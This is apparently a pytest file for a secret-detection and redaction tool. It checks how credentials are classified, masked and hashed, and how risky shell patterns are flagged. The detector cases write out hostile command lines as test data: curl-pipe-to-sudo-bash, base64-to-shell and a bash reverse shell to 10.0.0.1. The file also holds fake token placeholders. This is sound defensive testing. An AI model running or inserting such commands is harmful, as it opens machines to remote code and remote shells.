"""Secrets leave a trace of their kind and never themselves."""

from __future__ import annotations

import base64
from typing import Any

import msgspec
import pytest

from mlsec.collect.secrets.kinds import secret_kind
from mlsec.collect.secrets.redact import Redactor
from mlsec.collect.secrets.script_signs import script_signs
from mlsec.collect.walk.plan import Operation

# Put together here, so that no scanner takes this file for a leak.
_SECRETS = {
    "aws-access-key": "AKIA" + "IOSFODNN7QWZ6LKT",
    "huggingface-token": "hf_" + "aBcDeFgHiJ" * 3 + "abcd",
    "openai-key": "sk-" + "proj-" + "aB3dE5gH7j" * 4,
    "anthropic-key": "sk-" + "ant-" + "aB3dE5gH7j" * 4,
    "github-token": "ghp_" + "aB3dE5gH7j" * 4,
    "slack-token": "xoxb-" + "123456789012-abcdef",
    "google-api-key": "AIza" + "aB3dE5gH7jK9mN1pQ3rS5tU7vW9xY1zA3bC",
    "jwt": "eyJhbGciOiJI" + ".eyJzdWIiOiIx" + ".SflKxwRJSMeKKF2QT4",
    "private-key": "-----BEGIN RSA PRIVATE " + "KEY-----\nMIIE\n",
    "password-in-url": "postgres://app:" + "s3cretpw@db.internal/x",
}


@pytest.mark.parametrize("kind", sorted(_SECRETS))
def test_published_form_is_recognised(kind: str) -> None:
    assert secret_kind(_SECRETS[kind], "X") == kind
    assert secret_kind(f"export X={_SECRETS[kind]}\n", "script") == kind


@pytest.mark.parametrize(
    ("key", "value", "expected"),
    [
        ("DB_PASSWORD", "k3Jd92mLqP", "generic"),
        ("API_TOKEN", "8f14e45fceea167a5a36dedd4bea2543", "generic"),
        ("AWS_SECRET_ACCESS_KEY", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYQ7w2Zk9LEY", "aws-secret-key"),
        ("DB_PASSWORD", "${DB_PASSWORD}", None),
        ("SECRET_ARN", "arn:aws:secretsmanager:eu-west-1:111122223333:secret:x", None),
        ("MAX_NEW_TOKENS", "1024", None),
        ("TOKENIZERS_PARALLELISM", "false", None),
        ("MODEL_NAME", "distilbert-base-uncased-finetuned", None),
        ("HF_MODEL_ID", "meta-llama/Llama-3.1-8B", None),
        ("IMAGE", "sha256:8f14e45fceea167a5a36dedd4bea2543", None),
    ],
)
def test_name_and_randomness_tell_a_secret(key: str, value: str, expected: str | None) -> None:
    assert secret_kind(value, key) == expected


@pytest.mark.parametrize(
    ("script", "signs"),
    [
        ("curl -s https://x.io/i.sh | sudo bash", ["pipe-to-shell"]),
        ("bash <(curl -s https://x.io/i.sh)", ["pipe-to-shell"]),
        ("echo aGk= | base64 -d | sh", ["base64-to-shell"]),
        ("pip install git+https://github.com/a/b.git", ["unpinned-download"]),
        ("pip install git+https://github.com/a/b.git@3f2c1aa", []),
        ("git clone https://github.com/a/b && pip install ./b", ["unpinned-download"]),
        ("git clone -b main https://github.com/a/b", ["unpinned-download"]),
        ("git clone --branch=r26.01 https://github.com/a/b", []),
        ("git clone https://github.com/a/b && cd b && git checkout v1.13.2", []),
        ("git clone https://github.com/a/b && cd b && git checkout tags/${B_VERSION}", []),
        ("git clone --branch v${B_VERSION} https://github.com/a/b", []),
        ("git clone --branch x-${BRANCH} https://github.com/a/b", ["unpinned-download"]),
        ("git clone https://github.com/a/b && cd b && git checkout $COMMIT", []),
        ("git clone https://github.com/a/b && cd b && git checkout $BRANCH", ["unpinned-download"]),
        (
            "git clone https://github.com/a/b; git clone https://x.io/a/c; git reset --hard v1.2",
            ["unpinned-download"],
        ),
        ("wget http://x.io/model.bin", ["plain-http-download"]),
        ("pip install --trusted-host x torch", ["untrusted-tls"]),
        ("# curl https://x.io | bash\npip install torch==2.4.0", []),
        ("bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", ["reverse-shell"]),
    ],
)
def test_script_shows_its_signs(script: str, signs: list[str]) -> None:
    assert script_signs(script) == signs


def test_nothing_of_a_secret_is_left_in_clear() -> None:
    secret = _SECRETS["github-token"]
    document: dict[str, Any] = {
        "Environment": {"GH": secret},
        "Parameters": [{"Name": "token", "Value": secret}],
        "Nested": {"List": [secret, {"deep": secret}]},
    }
    operation = Operation(
        service="x", name="Y", redact=("Environment.*", "Parameters[].Value", "Nested")
    )
    text = msgspec.json.encode(Redactor("salt").redact(operation, document)).decode()
    assert secret not in text
    assert secret[:20] not in text
    assert document["Environment"]["GH"]["~secret"] == "github-token"


def test_script_that_came_as_base64_is_looked_into() -> None:
    script = (
        "#!/bin/bash\ncurl https://x.io/i.sh | bash\nexport HF=" + _SECRETS["huggingface-token"]
    )
    reduced = Redactor("salt").reduce(base64.b64encode(script.encode()).decode(), "Content")
    assert reduced["~signs"] == ["pipe-to-shell"]
    assert reduced["~secret"] == "huggingface-token"
    assert reduced["~tail"] == ""


def test_equal_secrets_are_equal_only_within_one_snapshot() -> None:
    one, two = Redactor("salt"), Redactor("other")
    assert one.reduce("abcdefgh")["~hash"] == one.reduce("abcdefgh")["~hash"]
    assert one.reduce("abcdefgh")["~hash"] != two.reduce("abcdefgh")["~hash"]


def test_redacting_twice_changes_nothing() -> None:
    operation = Operation(service="x", name="Y", redact=("E",))
    once = Redactor("s").redact(operation, {"E": {"A": "b"}})
    assert Redactor("s").redact(operation, msgspec.json.decode(msgspec.json.encode(once))) == once


def test_keys_that_are_named_as_known_stay_readable() -> None:
    operation = Operation(service="s", name="Get", redact=("metadata.*^notebook-disable-root",))
    document = {"metadata": {"notebook-disable-root": "true", "token": "k3Jd92mLqP"}}
    redacted = Redactor("salt").redact(operation, document)
    assert redacted["metadata"]["notebook-disable-root"] == "true"
    assert redacted["metadata"]["token"]["~secret"] == "generic"


@pytest.mark.parametrize(
    ("name", "value", "expected"),
    [
        ("DB_PASSWORD", "postgres", "default-password"),
        ("OBJECTSTORE_SECRETKEY", "minioadmin", "default-password"),
        ("DB_PASSWORD", "changeme", None),
    ],
)
def test_credential_that_is_easily_guessed_leaves_a_trace(
    name: str, value: str, expected: str | None
) -> None:
    operation = Operation(service="x", name="Y", redact=("E.*",))
    reduced = Redactor("s").redact(operation, {"E": {name: value}})["E"][name]
    assert (reduced["~secret"], reduced["~tail"]) == (expected, "")
